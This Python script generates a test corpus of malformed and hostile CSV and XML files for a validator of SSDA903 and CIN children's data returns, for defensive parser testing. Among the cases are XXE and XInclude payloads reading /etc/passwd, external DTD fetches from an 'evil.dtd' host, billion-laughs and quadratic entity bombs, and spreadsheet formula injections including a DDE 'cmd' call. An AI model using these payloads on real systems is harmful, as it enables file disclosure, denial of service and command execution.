"""Write the broken and hostile input corpus (tests/corpus/ssda903, tests/corpus/cin) from small synthetic samples.

Run from the repository root: ``python tests/corpus/make_corpus.py``. The files are committed; this script shows
how each was made and remakes them. The expected outcome of every case is in tests/corpus/cases.yaml. Cases that
need large content (10 MB cells, a million rows, entity bombs past the prologue) are made by
tests/test_corpus.py at run time instead, so the repository stays small.
"""

from __future__ import annotations

import codecs
import shutil
import tempfile
from collections.abc import Callable
from pathlib import Path

from validator.samples import generate_samples

HERE = Path(__file__).resolve().parent
YEAR = "2024_25"
SEED = 1
CHILDREN = 3

LAUGHS = '<!DOCTYPE {root} [<!ENTITY a "aaaaaaaaaa">' + "".join(
    f'<!ENTITY {chr(98 + i)} "{("&" + chr(97 + i) + ";") * 10}">' for i in range(9)
) + "]>"  # fmt: skip
XXE = '<!DOCTYPE {root} [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
PARAM = '<!DOCTYPE {root} [<!ENTITY % p SYSTEM "http://127.0.0.1:9/evil.dtd"> %p;]>'
EXTERNAL_DTD = '<!DOCTYPE {root} SYSTEM "http://127.0.0.1:9/evil.dtd">'
QUADRATIC = '<!DOCTYPE {root} [<!ENTITY q "' + "q" * 2000 + '">]>'
DECL = "<?xml version='1.0' encoding='UTF-8'?>\n"


def bases() -> dict[str, str]:
    with tempfile.TemporaryDirectory() as tmp:
        out = Path(tmp)
        generate_samples("ssda903", YEAR, CHILDREN, SEED, 0.0, out, False)
        generate_samples("cin", YEAR, CHILDREN, SEED, 0.0, out, False)
        return {
            "header": (out / "ssda903" / YEAR / "header.csv").read_text(encoding="utf-8"),
            "episodes": (out / "ssda903" / YEAR / "episodes.csv").read_text(encoding="utf-8"),
            "oc2": (out / "ssda903" / YEAR / "oc2.csv").read_text(encoding="utf-8"),
            "903xml": (out / "ssda903" / f"{YEAR}.xml").read_text(encoding="utf-8"),
            "swxml": (out / "ssda903" / f"{YEAR}_sw.xml").read_text(encoding="utf-8"),
            "cinxml": (out / "cin" / f"cin_{YEAR}.xml").read_text(encoding="utf-8"),
        }


def body(xml: str) -> str:
    """The document without its XML declaration."""
    return xml.split("?>", 1)[1].lstrip("\n")


def cell(csv_text: str, row: int, column: str, value: str) -> str:
    """The CSV text with one cell replaced (row 1 = the first data row); cells hold no commas in the samples."""
    lines = csv_text.splitlines()
    header = lines[0].split(",")
    cells = lines[row].split(",")
    cells[header.index(column)] = value
    lines[row] = ",".join(cells)
    return "\n".join(lines) + "\n"


def first(xml: str, tag: str, value: str) -> str:
    """The XML text with the first <tag>'s text replaced."""
    start = xml.index(f"<{tag}>") + len(tag) + 2
    end = xml.index(f"</{tag}>", start)
    return xml[:start] + value + xml[end:]


def truncate_at(xml: str, marker: str, occurrence: int = 1) -> str:
    pos = -1
    for _ in range(occurrence):
        pos = xml.index(marker, pos + 1)
    return xml[:pos]


def ssda903_cases(b: dict[str, str]) -> dict[str, bytes | str]:
    h, e, x, sw = b["header"], b["episodes"], b["903xml"], b["swxml"]
    hx = body(x)
    rows = h.splitlines()
    cases: dict[str, bytes | str] = {
        "base_header.csv": h,
        "base_episodes.csv": e,
        # --- CSV: empty, encodings, layout
        "empty.csv": b"",
        "blank_lines.csv": "\n\n\r\n  \n",
        "bom_only.csv": codecs.BOM_UTF8,
        "header_only.csv": rows[0] + "\n",
        "ragged_short.csv": h.replace(rows[1], rows[1].rsplit(",", 3)[0]),
        "ragged_long.csv": h.replace(rows[2], rows[2] + ",extra,cells"),
        "duplicate_header.csv": h.replace("ETHNIC,", "ETHNIC,DOB,", 1).replace(rows[1], rows[1] + ",01/01/2000"),
        "two_tables.csv": h + "\n" + e,
        "header_repeated.csv": h + rows[0] + "\n" + rows[1] + "\n",
        "utf16le_no_bom.csv": h.encode("utf-16-le"),
        "utf16be_no_bom.csv": h.encode("utf-16-be"),
        "utf16_bom.csv": codecs.BOM_UTF16_LE + h.encode("utf-16-le"),
        "cp1252.csv": cell(h, 1, "UPN", "UN1é£").encode("cp1252"),
        "latin1_in_utf8_bom.csv": codecs.BOM_UTF8 + h.encode(),
        "crlf.csv": h.replace("\n", "\r\n"),
        "cr_only.csv": h.replace("\n", "\r"),
        "tab_separated.tsv": h.replace(",", "\t"),
        "semicolon_separated.csv": h.replace(",", ";"),
        "excel_sep_line.csv": "sep=,\n" + h,
        "no_header_row.csv": "\n".join(rows[1:]) + "\n",
        "unknown_columns.csv": "colour,size\nred,1\n",
        "missing_column.csv": "\n".join(",".join(r.split(",")[:2] + r.split(",")[3:]) for r in rows) + "\n",
        "quoted_header.csv": '"' + rows[0].replace(",", '","') + '"\n' + "\n".join(rows[1:]) + "\n",
        "lower_case_header.csv": rows[0].lower() + "\n" + "\n".join(rows[1:]) + "\n",
        "unbalanced_quote.csv": h.replace(rows[2], rows[2].replace(",F,", ',"F,', 1)),
        "nul_bytes.csv": h.replace("BCRB", "BC\x00RB", 1).encode(),
        "trailing_commas.csv": "\n".join(r + ",,," for r in rows) + "\n",
        "blank_rows_between.csv": "\n\n".join(rows) + "\n",
        "padded_values.csv": cell(h, 1, "ETHNIC", "  BCRB  "),
        "lower_case_code.csv": cell(h, 1, "ETHNIC", "bcrb"),
        # --- CSV: dates
        "dob_31_feb.csv": cell(h, 1, "DOB", "31/02/2024"),
        "dob_excel_serial.csv": cell(h, 1, "DOB", "44927"),
        "dob_year_1900.csv": cell(h, 1, "DOB", "01/01/1900"),
        "dob_year_9999.csv": cell(h, 1, "DOB", "31/12/9999"),
        "dob_year_0000.csv": cell(h, 1, "DOB", "01/01/0000"),
        "dob_month_13.csv": cell(h, 1, "DOB", "01/13/2020"),
        "dob_iso.csv": "\n".join([rows[0]] + [r.replace("08/02/2023", "2023-02-08") for r in rows[1:]]) + "\n",
        "dob_excel_datetime.csv": cell(h, 1, "DOB", "08/02/2023 00:00:00"),
        "dob_words.csv": cell(h, 1, "DOB", "8th February 2023"),
        "decom_9999.csv": cell(e, 1, "DECOM", "01/01/9999"),
        "decom_1900.csv": cell(e, 1, "DECOM", "01/01/1900"),
        # --- CSV: ids, numbers, formulas, markup
        "id_leading_zeros.csv": h.replace("5729176", "0005729176"),
        "episodes_id_leading_zeros.csv": e.replace("5729176", "0005729176"),
        "formula_hyperlink.csv": cell(h, 1, "ETHNIC", '=HYPERLINK("http://example.invalid/?x="&A1;"click")'),
        "formula_plus.csv": cell(h, 1, "ETHNIC", "+SUM(1;2)"),
        "formula_minus.csv": cell(h, 1, "ETHNIC", "-2+3+cmd|' /C calc'!A0"),
        "formula_at.csv": cell(h, 1, "ETHNIC", "@SUM(1;1)"),
        "formula_in_id.csv": h.replace("5729176", "=1+1"),
        "formula_tab.csv": cell(h, 1, "ETHNIC", "\t=1+1"),
        "script_in_cell.csv": cell(h, 1, "ETHNIC", "<script>alert(1)</script>"),
        "unicode_controls.csv": cell(h, 1, "UPN", "UN1\u202egnp.exe"),
        "emoji_id.csv": h.replace("5729176", "child\U0001f600"),
        "oc2_score_text.csv": cell(b["oc2"], 1, "SDQ_SCORE", "twelve") if len(b["oc2"].splitlines()) > 1 else "",
        # --- mistaken files
        "binary_junk.csv": bytes(range(256)) * 4,
        "xlsx_renamed.csv": b"PK\x03\x04\x14\x00\x06\x00\x08\x00" + bytes(200),
        "xls_renamed.csv": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(200),
        "pdf_renamed.csv": b"%PDF-1.4\n%\xe2\xe3\xcf\xd3\n1 0 obj\n<<>>\nendobj\n",
        "gzip_renamed.csv": b"\x1f\x8b\x08\x00\x00\x00\x00\x00\x00\x03" + bytes(50),
        # --- XML
        "base.xml": x,
        "base_sw.xml": sw,
        "xml_empty.xml": b"",
        "xml_whitespace.xml": "  \n\n",
        "xml_junk.xml": b"\x00\x01\x02binary junk\xff\xfe" * 20,
        "xml_truncated_mid_child.xml": truncate_at(x, "<CHILD>", 2) + "<CHILD>\n    <HEADER>\n      <CHILDID>12",
        "xml_truncated_first_child.xml": truncate_at(x, "<EPISODE>"),
        "xml_declaration_only.xml": DECL,
        "xml_wrong_root.xml": DECL + hx.replace("EXPSSDA903>", "EXPSSDA904>"),
        "xml_mismatched_tag.xml": x.replace("</DOB>", "</DOB_>", 1),
        "xml_namespace.xml": x.replace("<EXPSSDA903>", '<EXPSSDA903 xmlns="urn:example:903">'),
        "xml_mixed_namespaces.xml": x.replace("<CHILD>", '<n:CHILD xmlns:n="urn:example:other">', 1).replace(
            "</CHILD>", "</n:CHILD>", 1
        ),
        "xml_duplicated_element.xml": x.replace("</DOB>", "</DOB>\n      <DOB>01/01/2020</DOB>", 1),
        "xml_duplicate_child.xml": x.replace(
            "</EXPSSDA903>", x[x.index("<CHILD>") : x.index("</CHILD>") + 8] + "\n</EXPSSDA903>"
        ),
        "xml_two_roots.xml": x + hx,
        "xml_garbage_after.xml": x + "trailing garbage\n",
        "xml_text_before_root.xml": "garbage" + x,
        "xml_bom.xml": codecs.BOM_UTF8 + x.encode(),
        "xml_utf16.xml": x.replace("utf-8", "UTF-16").encode("utf-16"),
        "xml_encoding_lies.xml": x.replace("utf-8", "UTF-16").encode("utf-8"),
        "xml_latin1_declared.xml": x.replace("utf-8", "ISO-8859-1").replace("BCRB", "BCRB\u00e9", 1).encode("latin-1"),
        "xml_invalid_utf8.xml": x.encode().replace(b"BCRB", b"BC\xff\xfeRB", 1),
        "xml_comments_pis_cdata.xml": x.replace("<SEX>M</SEX>", "<!-- note --><?pi x?><SEX><![CDATA[M]]></SEX>", 1),
        "xml_deep_nesting.xml": DECL + "<EXPSSDA903>" + "<CHILD>" * 300 + "</CHILD>" * 300 + "</EXPSSDA903>",
        "xml_dob_31_feb.xml": first(x, "DOB", "31/02/2024"),
        "xml_dob_excel_serial.xml": first(x, "DOB", "44927"),
        "xml_dob_1900.xml": first(x, "DOB", "01/01/1900"),
        "xml_dob_9999.xml": first(x, "DOB", "31/12/9999"),
        "xml_id_leading_zeros.xml": x.replace("5729176", "0005729176"),
        "xml_formula_in_id.xml": x.replace("5729176", "=HYPERLINK(&quot;http://example.invalid&quot;)"),
        "xml_unknown_element.xml": x.replace("<UASC>", "<NICKNAME>Sam</NICKNAME>\n      <UASC>", 1),
        "xml_billion_laughs.xml": DECL + LAUGHS.format(root="EXPSSDA903") + hx.replace("BCRB", "&j;", 1),
        "xml_quadratic_blowup.xml": DECL + QUADRATIC.format(root="EXPSSDA903") + hx.replace("BCRB", "&q;" * 200, 1),
        "xml_xxe.xml": DECL + XXE.format(root="EXPSSDA903") + hx.replace("BCRB", "&x;", 1),
        "xml_parameter_entity.xml": DECL + PARAM.format(root="EXPSSDA903") + hx,
        "xml_external_dtd.xml": DECL + EXTERNAL_DTD.format(root="EXPSSDA903") + hx,
        "xml_xinclude.xml": x.replace(
            "<EXPSSDA903>", '<EXPSSDA903 xmlns:xi="http://www.w3.org/2001/XInclude">'
        ).replace("BCRB", '<xi:include href="file:///etc/passwd" parse="text"/>', 1),
        "xml_sw_truncated.xml": truncate_at(sw, "</SW_EPISODE>"),
        "xml_sw_as_main_root.xml": sw.replace("EXPSSDA903SW", "EXPSSDA903"),
    }
    return cases


def cin_cases(b: dict[str, str]) -> dict[str, bytes | str]:
    x = b["cinxml"]
    hx = body(x)
    return {
        "base.xml": x,
        "empty.xml": b"",
        "whitespace.xml": "\n \n",
        "junk.xml": bytes(range(256)) * 2,
        "declaration_only.xml": DECL,
        "truncated_in_header.xml": truncate_at(x, "<Source>"),
        "truncated_mid_child.xml": truncate_at(x, "<Child>", 2) + "<Child><ChildIdentifiers><LAchildID>12",
        "truncated_after_children.xml": truncate_at(x, "</Children>"),
        "wrong_root.xml": DECL + hx.replace("Message>", "Mesage>"),
        "ssda903_root.xml": DECL + hx.replace("Message>", "EXPSSDA903>"),
        "mismatched_tag.xml": x.replace("</UPN>", "</UPN_>", 1),
        "namespace.xml": x.replace("<Message>", '<Message xmlns="http://www.dcsf.gov.uk/schemas/cbds">'),
        "mixed_namespaces.xml": x.replace("<Child>", '<o:Child xmlns:o="urn:example:other">', 1).replace(
            "</Child>", "</o:Child>", 1
        ),
        "duplicated_element.xml": x.replace("</LAchildID>", "</LAchildID>\n        <LAchildID>999</LAchildID>", 1),
        "duplicate_child.xml": x.replace(
            "</Children>", x[x.index("<Child>") : x.index("</Child>") + 8] + "\n</Children>"
        ),
        "two_headers.xml": x.replace("</Header>", "</Header>" + x[x.index("<Header>") : x.index("</Header>") + 9], 1),
        "no_header.xml": x[: x.index("<Header>")] + x[x.index("</Header>") + 9 :],
        "no_children.xml": x[: x.index("<Children>")] + "</Message>\n",
        "two_roots.xml": x + hx,
        "bom.xml": codecs.BOM_UTF8 + x.encode(),
        "utf16.xml": x.replace("UTF-8", "UTF-16").encode("utf-16"),
        "invalid_utf8.xml": x.encode().replace(b"WBRI", b"WB\xc3\x28RI", 1),
        "comments_pis_cdata.xml": x.replace("<Sex>F</Sex>", "<!-- c --><?pi x?><Sex><![CDATA[F]]></Sex>", 1),
        "deep_nesting.xml": DECL + "<Message>" + "<Children>" * 300 + "</Children>" * 300 + "</Message>",
        "reference_date_invalid.xml": first(x, "ReferenceDate", "2025-02-31"),
        "referral_31_feb.xml": first(x, "CINreferralDate", "2024-02-31"),
        "birth_uk_format.xml": first(x, "PersonBirthDate", "01/05/2019"),
        "birth_excel_serial.xml": first(x, "PersonBirthDate", "43586"),
        "birth_1900.xml": first(x, "PersonBirthDate", "1900-01-01"),
        "birth_9999.xml": first(x, "PersonBirthDate", "9999-12-31"),
        "birth_0001.xml": first(x, "PersonBirthDate", "0001-01-01"),
        "id_leading_zeros.xml": first(x, "LAchildID", "000123"),
        "id_formula.xml": first(x, "LAchildID", "=HYPERLINK(&quot;http://example.invalid&quot;)"),
        "id_blank.xml": first(x, "LAchildID", "   "),
        "unknown_element.xml": x.replace("<Sex>", "<Nickname>Sam</Nickname><Sex>", 1),
        "billion_laughs.xml": DECL + LAUGHS.format(root="Message") + hx.replace("WBRI", "&j;", 1),
        "quadratic_blowup.xml": DECL + QUADRATIC.format(root="Message") + hx.replace("WBRI", "&q;" * 200, 1),
        "xxe.xml": DECL + XXE.format(root="Message") + hx.replace("WBRI", "&x;", 1),
        "parameter_entity.xml": DECL + PARAM.format(root="Message") + hx,
        "external_dtd.xml": DECL + EXTERNAL_DTD.format(root="Message") + hx,
        "xinclude.xml": x.replace("<Message>", '<Message xmlns:xi="http://www.w3.org/2001/XInclude">').replace(
            "WBRI", '<xi:include href="file:///etc/passwd" parse="text"/>', 1
        ),
        "undefined_entity.xml": x.replace("WBRI", "&nbsp;", 1),
        "csv_children.csv": "LAchildID,UPN,PersonBirthDate,Sex\n000123,E313250024467,2019-05-01,F\n",
        "csv_bad_dates.csv": "LAchildID,UPN,PersonBirthDate,Sex\nC1,E313250024467,2019-02-31,F\nC2,,44927,M\n",
    }


def write(folder: Path, cases: dict[str, bytes | str]) -> int:
    if folder.exists():
        shutil.rmtree(folder)
    folder.mkdir(parents=True)
    for name, content in cases.items():
        data = content.encode("utf-8") if isinstance(content, str) else content
        if not data and not name.startswith(("empty", "xml_empty")):
            raise SystemExit(f"{name}: the base data lacks what this case corrupts")
        (folder / name).write_bytes(data)
    return len(cases)


def main() -> None:
    b = bases()
    makers: dict[str, Callable[[dict[str, str]], dict[str, bytes | str]]] = {
        "ssda903": ssda903_cases,
        "cin": cin_cases,
    }
    for kind, make in makers.items():
        print(f"{kind}: {write(HERE / kind, make(b))} files")


if __name__ == "__main__":
    main()
